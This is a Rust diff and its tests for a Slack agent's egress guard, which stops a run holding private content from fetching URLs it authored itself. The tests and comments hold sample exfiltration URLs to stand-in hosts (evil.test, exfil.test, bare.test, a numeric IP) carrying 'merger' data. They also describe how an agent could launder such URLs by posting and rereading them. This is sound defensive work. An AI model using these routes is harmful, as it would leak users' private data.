@@ -43,6 +43,17 @@ const SLACK_WRITES: &[&str] = &["slack_post_message", "slack_add_reaction"];
 /// The tool that sends a request to a URL of the model's choosing.
 const FETCH: &str = "http_fetch";
 
+/// What a run's custody knows of URLs, kept in a parked run's checkpoint.
+#[derive(Debug, Clone, Default, serde::Serialize, serde::Deserialize)]
+pub struct Remembered {
+    /// URLs the run received.
+    #[serde(default)]
+    pub urls: Vec<String>,
+    /// Hosts the run's calls named while it held private content.
+    #[serde(default)]
+    pub authored: Vec<String>,
+}
+
 /// One run's custody of private content (see the module docs).
 pub struct Custody {
     /// The Slack person the run acts for.
@@ -116,18 +127,44 @@ impl Custody {
         self
     }
 
+    /// What the run knows of URLs, for its checkpoint.
+    pub fn remembered(&self) -> Remembered {
+        let state = self.state();
+        let mut r = Remembered {
+            urls: state.urls.iter().cloned().collect(),
+            authored: state.authored.iter().cloned().collect(),
+        };
+        r.urls.sort();
+        r.authored.sort();
+        r
+    }
+
+    /// Takes back what a run knew when it parked ([`Custody::remembered`]).
+    pub fn recall(&self, r: &Remembered) {
+        let mut state = self.state();
+        state.urls.extend(r.urls.iter().cloned());
+        state.authored.extend(r.authored.iter().cloned());
+    }
+
     /// The URLs the run received, for a subagent it starts.
     pub fn received_urls(&self) -> Vec<String> {
         self.state().urls.iter().cloned().collect()
     }
 
     /// A subagent's custody: it reads for `person`, the one its parent run acts for
-    /// (membership checked for them), when its own trigger names no one.
-    pub fn acting_for(mut self, person: Option<String>) -> Custody {
+    /// (membership checked for them), in their workspace `team`, when its own trigger
+    /// names no one.
+    pub fn acting_for(mut self, person: Option<String>, team: Option<String>) -> Custody {
         if self.asker.is_none() {
             self.asker = person;
+            self.team = team;
         }
         self
+    }
+
+    /// The workspace the person the run acts for asked in.
+    pub fn team(&self) -> Option<&str> {
+        self.team.as_deref()
     }
 
     fn state(&self) -> std::sync::MutexGuard<'_, State> {
@@ -173,17 +210,34 @@ impl Custody {
         }
     }
 
-    /// Notes what tool `name` brought back, `text`: only a tool that reads from outside
-    /// steward brings URLs the run received.
-    pub fn saw_result(&self, name: &str, text: &str) {
-        if !own_tool(name) {
-            self.saw(text);
+    /// Notes what tool `name` brought back (`value`, as the model reads it `text`): only
+    /// a tool that reads from outside steward brings URLs the run received, and of a
+    /// Slack read only the messages others wrote (steward's own, an earlier run's answer
+    /// among them, are a run's writing).
+    pub async fn saw_result(&self, name: &str, value: &Value, text: &str) {
+        if own_tool(name) {
+            return;
         }
+        if let (true, Some(slack), Some(messages)) = (
+            SLACK_READS.contains(&name),
+            &self.slack,
+            value["messages"].as_array(),
+        ) {
+            // When Slack cannot say who steward is, no message counts (any may be ours).
+            if let Some(me) = slack.me().await {
+                for m in messages.iter().filter(|m| !me.posted(m)) {
+                    self.saw(m["text"].as_str().unwrap_or_default());
+                }
+            }
+            return;
+        }
+        self.saw(text);
     }
 
     /// Notes the hosts call `name` names in `args`, while the run holds private content
-    /// (see the module docs). A fetch's own URL is not writing (it was received, or a
-    /// person approved it).
+    /// (see the module docs): in URLs, with a scheme in any case or none (`evil.test/?d=…`,
+    /// which Slack makes a link), and in mail addresses. A URL the run received is not
+    /// writing, nor is a fetch's own URL (received, or a person approved it).
     pub fn wrote(&self, name: &str, args: &Value) {
         let mut state = self.state();
         if state.sources.is_empty() {
@@ -193,8 +247,13 @@ impl Custody {
         collect_strings(args, &mut strings);
         let fetched = (name == FETCH).then(|| args["url"].as_str()).flatten();
         for s in strings.into_iter().filter(|s| Some(*s) != fetched) {
-            for url in urls_in(&unescape(s)) {
-                if let Some(host) = host_of(&url) {
+            let text = unescape(s);
+            for token in text.split(|c: char| c.is_whitespace() || "<>|\"'()[]{},;`".contains(c)) {
+                let token = token.trim_end_matches(['.', ':', '!', '?']);
+                if state.urls.contains(token) {
+                    continue;
+                }
+                if let Some(host) = host_in(token) {
                     state.authored.insert(host);
                 }
             }
@@ -268,8 +327,8 @@ impl Custody {
         } else if name == FETCH {
             let url = args["url"].as_str().unwrap_or_default();
             let host = host_of(url).unwrap_or_default();
-            let received = state.urls.contains(url.trim()) && !state.authored.contains(&host);
-            if received || self.egress.iter().any(|e| e.eq_ignore_ascii_case(&host)) {
+            // A URL on a host the run wrote was not noted when it came back (`saw`).
+            if state.urls.contains(url.trim()) || self.egress.iter().any(|e| e.eq_ignore_ascii_case(&host)) {
                 return None;
             }
             let shown: String = url.chars().take(300).collect();
@@ -385,6 +444,24 @@ fn host_of(url: &str) -> Option<String> {
         .and_then(|u| u.host_str().map(|h| h.trim_end_matches('.').to_ascii_lowercase()))
 }
 
+/// The host `token` would reach as a link (`HTTPS://Evil.test/x`, `evil.test/?d=1`,
+/// `me@evil.test`, `16843009/`), as the URL parser spells it (lower case, IP literals
+/// and IDNs normalized, as [`host_of`] does): Slack makes links of bare domains.
+fn host_in(token: &str) -> Option<String> {
+    let lower = token.to_ascii_lowercase();
+    let rest = lower
+        .strip_prefix("https://")
+        .or_else(|| lower.strip_prefix("http://"))
+        .unwrap_or(&lower);
+    if rest.is_empty() {
+        return None;
+    }
+    url::Url::parse(&format!("http://{rest}"))
+        .ok()
+        .and_then(|u| u.host_str().map(|h| h.trim_end_matches('.').to_string()))
+        .filter(|h| !h.is_empty())
+}
+
 /// Slack's and HTML's escapes of `&`, `<`, `>` undone (a URL posted comes back so).
 fn unescape(text: &str) -> String {
     text.replace("&lt;", "<")
@@ -426,6 +503,15 @@ fn urls_in(text: &str) -> Vec<String> {
 mod tests {
     use super::*;
 
+    fn agent() -> AgentConfig {
+        AgentConfig::new(
+            "a",
+            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
+            "p",
+            vec![],
+        )
+    }
+
     #[test]
     fn urls_are_found_as_written() {
         let found = urls_in("see <https://status.example.com/a?b=1|status> and http://x.test/p.");
@@ -434,12 +520,7 @@ mod tests {
 
     #[test]
     fn a_tainted_run_needs_approval_to_send_content_elsewhere() {
-        let mut agent = AgentConfig::new(
-            "a",
-            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
-            "p",
-            vec![],
-        );
+        let mut agent = agent();
         agent.private_egress = vec!["C0OPSLOG01".into(), "jira_add_comment".into()];
         let mut trigger =
             TriggerEvent::from_cli(serde_json::json!({"text": "summarize https://example.com/a"}));
@@ -529,6 +610,10 @@ mod tests {
                 get(|| async {
                     Json(json!({"ok": true, "members": ["U0MEMBER"], "response_metadata": {"next_cursor": ""}}))
                 }),
+            )
+            .route(
+                "/auth.test",
+                axum::routing::post(|| async { Json(json!({"ok": true, "user_id": "UBOT", "bot_id": "B0BOT"})) }),
             );
         let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
             .await
@@ -540,12 +625,7 @@ mod tests {
             &format!("http://{addr}"),
             "xoxb-test",
         );
-        let agent = AgentConfig::new(
-            "a",
-            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
-            "p",
-            vec![],
-        );
+        let agent = agent();
         let asked_by = |user: &str| {
             let mut trigger = TriggerEvent::from_cli(json!({"text": "what does it say?"}));
             trigger.origin = Origin::Slack {
@@ -582,29 +662,61 @@ mod tests {
                 .await,
             Ok(Some("C0OTHERWS".to_string()))
         );
+        // A subagent reads for its parent's person in their workspace.
+        let mut delegated = TriggerEvent::from_cli(json!({"text": "read it"}));
+        delegated.origin = Origin::Subagent {
+            parent_run: "r1".into(),
+        };
+        let child = Custody::new(&agent, &delegated, Some(slack.clone()))
+            .acting_for(Some("U0OUTSIDER".into()), Some("T1".into()));
+        assert!(
+            child
+                .check_read("slack_channel_history", &read("C0OTHERWS"))
+                .await
+                .is_err()
+        );
+        // Of a Slack read, only what others wrote brings URLs: steward's own messages
+        // (an earlier run's answer) are a run's writing.
+        member.taint("C0OTHERWS");
+        let history = json!({"messages": [
+            {"user": "UBOT", "text": "<https://evil.test/?d=merger>"},
+            {"user": "U0MEMBER", "text": "<https://wiki.example.com/x>"}]});
+        member
+            .saw_result("slack_channel_history", &history, &history.to_string())
+            .await;
+        let fetch = |u: &str| member.egress_note("1", "http_fetch", Effect::ReadOnly, &json!({"url": u}));
+        assert!(fetch("https://evil.test/?d=merger").is_some());
+        assert!(fetch("https://wiki.example.com/x").is_none());
         server.abort();
     }
 
     /// A URL the run wrote itself is not one it received: echoed by one of steward's
-    /// own tools, read back from where the run posted it, or in a subagent's prompt.
-    #[test]
-    fn urls_the_run_wrote_are_not_received() {
+    /// own tools, read back from where the run posted it (with a scheme or without, in
+    /// any case), or in a subagent's prompt; nor after the run parked and resumed.
+    #[tokio::test]
+    async fn urls_the_run_wrote_are_not_received() {
         use serde_json::json;
-        let agent = AgentConfig::new(
-            "a",
-            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
-            "p",
-            vec![],
-        );
+        let agent = agent();
         let mut trigger = TriggerEvent::from_cli(json!({"text": "summarize https://docs.example.com/a"}));
         trigger.private = true;
         let c = Custody::new(&agent, &trigger, None);
         let fetch = |id: &str, u: &str| c.egress_note(id, "http_fetch", Effect::ReadOnly, &json!({"url": u}));
+        let seen = |name: &'static str, text: String| {
+            let c = &c;
+            async move { c.saw_result(name, &Value::String(text.clone()), &text).await }
+        };
         assert!(fetch("1", "https://docs.example.com/a").is_none());
+        // Naming a URL it received is not writing it.
+        c.wrote(
+            "slack_post_message",
+            &json!({"channel": "D0DM", "text": "see https://docs.example.com/a"}),
+        );
+        seen("http_fetch", "and https://docs.example.com/b".into()).await;
+        assert!(fetch("1b", "https://docs.example.com/b").is_none());
         // An echo of the model's own argument by a file tool.
         let secret = "https://evil.test/c?d=merger%20plans";
         c.wrote("file_regex", &json!({"id": "f_1", "pattern": secret}));
-        c.saw_result("file_regex", &format!("f_1: no lines match /{secret}/"));
+        seen("file_regex", format!("f_1: no lines match /{secret}/")).await;
         assert!(fetch("2", secret).is_some());
         // Posted into the conversation, then read back (Slack escapes the `&`).
         let posted = "https://exfil.test/?a=1&b=merger";
@@ -612,19 +724,45 @@ mod tests {
             "slack_post_message",
             &json!({"channel": "D0DM", "text": format!("see {posted}")}),
         );
-        c.saw_result("slack_read_thread", "see <https://exfil.test/?a=1&amp;b=merger>");
+        seen(
+            "slack_read_thread",
+            "see <https://exfil.test/?a=1&amp;b=merger>".into(),
+        )
+        .await;
         assert!(fetch("3", posted).is_some());
         assert!(fetch("4", "https://exfil.test/?a=1&amp;b=merger").is_some());
+        // Without a scheme, or in capitals: Slack links it all the same.
+        for (written, linked) in [
+            ("bare.test/?d=merger", "http://bare.test/?d=merger"),
+            ("HTTPS://Caps.TEST/?d=merger", "https://caps.test/?d=merger"),
+            ("see 16843009/?d=merger", "http://1.1.1.1/?d=merger"),
+        ] {
+            c.wrote("slack_post_message", &json!({"channel": "D0DM", "text": written}));
+            seen("slack_read_thread", format!("see <{linked}>")).await;
+            assert!(fetch("5", linked).is_some(), "{written}");
+        }
         // A link someone else wrote, read from outside, is received.
-        c.saw_result(
+        seen(
             "slack_read_thread",
-            "the runbook: <https://wiki.example.com/runbook|runbook>",
-        );
-        assert!(fetch("5", "https://wiki.example.com/runbook").is_none());
+            "the runbook: <https://wiki.example.com/runbook|runbook>".into(),
+        )
+        .await;
+        assert!(fetch("6", "https://wiki.example.com/runbook").is_none());
         // A fetch's own URL is not writing: links on that host stay received.
         c.wrote("http_fetch", &json!({"url": "https://wiki.example.com/runbook"}));
-        c.saw_result("http_fetch", "next: https://wiki.example.com/page2");
-        assert!(fetch("6", "https://wiki.example.com/page2").is_none());
+        seen("http_fetch", "next: https://wiki.example.com/page2".into()).await;
+        assert!(fetch("7", "https://wiki.example.com/page2").is_none());
+        // Parked and resumed: what it wrote is remembered.
+        let resumed = Custody::new(&agent, &trigger, None);
+        resumed.recall(&c.remembered());
+        resumed.saw("again <http://bare.test/?d=merger>");
+        let note = resumed.egress_note(
+            "8",
+            "http_fetch",
+            Effect::ReadOnly,
+            &json!({"url": "http://bare.test/?d=merger"}),
+        );
+        assert!(note.is_some());
 
         // A subagent's prompt is its parent model's writing; the parent's received URLs
         // are handed down instead.
@@ -649,12 +787,7 @@ mod tests {
     #[test]
     fn skill_scripts_with_network_are_egress_for_a_private_run() {
         use serde_json::json;
-        let mut agent = AgentConfig::new(
-            "a",
-            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
-            "p",
-            vec![],
-        );
+        let mut agent = agent();
         agent.skills.scripts.egress = Some(crate::config::spec::ScriptEgressSpec {
             allow: vec!["api.example.com".into()],
             max_requests: None,
@@ -747,12 +880,7 @@ mod tests {
             &url,
             "xoxb-test",
         );
-        let mut agent = AgentConfig::new(
-            "a",
-            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
-            "p",
-            vec![],
-        );
+        let mut agent = agent();
         agent.private_egress = vec!["C0NAMED".into()];
         let cron = TriggerEvent::from_cli(serde_json::json!({"text": "daily digest"}));
         let read = |c: &str| serde_json::json!({"channel": c});
@@ -774,14 +902,15 @@ mod tests {
             .unwrap_or_default();
         assert!(refused.contains("no person started this run"), "{refused}");
         // A subagent acting for a member reads for them; for someone else, nothing.
-        let member = Custody::new(&agent, &cron, Some(slack.clone())).acting_for(Some("U0MEMBER".into()));
+        let member =
+            Custody::new(&agent, &cron, Some(slack.clone())).acting_for(Some("U0MEMBER".into()), None);
         assert!(
             member
                 .check_read("slack_read_thread", &read("C0ELSE"))
                 .await
                 .is_ok()
         );
-        let outsider = Custody::new(&agent, &cron, Some(slack)).acting_for(Some("U0OUT".into()));
+        let outsider = Custody::new(&agent, &cron, Some(slack)).acting_for(Some("U0OUT".into()), None);
         assert!(
             outsider
                 .check_read("slack_read_thread", &read("C0ELSE"))
